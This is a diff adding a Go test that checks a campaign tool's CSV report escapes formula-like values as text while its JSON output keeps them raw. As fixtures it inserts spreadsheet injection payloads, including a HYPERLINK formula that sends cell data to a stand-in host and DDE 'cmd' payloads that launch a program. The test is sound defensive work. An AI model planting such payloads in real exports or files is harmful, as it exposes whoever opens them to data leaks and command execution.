@@ -267,3 +267,46 @@ func TestTheStatusListShowsItsTimesInTheZoneAsked(t *testing.T) {
 		t.Fatalf("status --json is not in UTC: %s", js)
 	}
 }
+
+// A report's CSV is opened in spreadsheets: a provider's error text, an imported code or an audience
+// value that starts like a formula is printed as text (a leading '), a phone number as it is. The JSON
+// keeps every value as it is.
+func TestReportCSVShowsFormulasAsText(t *testing.T) {
+	t.Parallel()
+	env, id, _ := reportEnv(t)
+	db := mustConnect(t, env["DATABASE_URL"])
+	if _, err := db.Exec(context.Background(), `UPDATE campaign_recipients SET reason = '=HYPERLINK("http://x.example/?"&A2,"open")',
+		delivery_error = '@SUM(1+1)*cmd|''/C calc''!A0' WHERE campaign_id = $1 AND user_id = 'b'`, id); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := db.Exec(context.Background(), `UPDATE campaign_recipients SET delivery_error = '-2+3+cmd|''/C calc''!A0',
+		provider_message_id = '+1-2' WHERE campaign_id = $1 AND user_id = 'a'`, id); err != nil {
+		t.Fatal(err)
+	}
+	_, rows, _ := reportCSV(t, env, id, "--with-address")
+	got := map[string][]string{}
+	for _, r := range rows {
+		if r[2] != "excluded" {
+			got[r[0]] = r
+		}
+	}
+	for _, c := range []struct {
+		user string
+		col  int
+		want string
+	}{
+		{"b", 3, `'=HYPERLINK("http://x.example/?"&A2,"open")`},
+		{"b", 11, `'@SUM(1+1)*cmd|'/C calc'!A0`},
+		{"a", 11, `'-2+3+cmd|'/C calc'!A0`},
+		{"a", 6, "+1-2"},
+		{"a", 1, "+905321000001"},
+	} {
+		if r := got[c.user]; r == nil || r[c.col] != c.want {
+			t.Errorf("%s's %s: %q, want %q", c.user, reportColumns[c.col], r, c.want)
+		}
+	}
+	out, _, code := cli(t, env, "report", id, "--json", "--status", "failed")
+	if code != 0 || !strings.Contains(out, `"reason":"=HYPERLINK(`) {
+		t.Errorf("report --json: exit %d, %s; want the reason as it is", code, out)
+	}
+}
